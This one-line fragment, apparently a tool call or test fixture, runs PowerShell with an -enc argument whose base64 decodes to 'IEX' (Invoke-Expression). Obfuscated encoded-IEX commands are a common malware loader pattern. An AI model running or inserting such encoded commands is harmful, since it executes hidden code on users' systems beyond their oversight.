shell("powershell -enc SQBFAFgA")
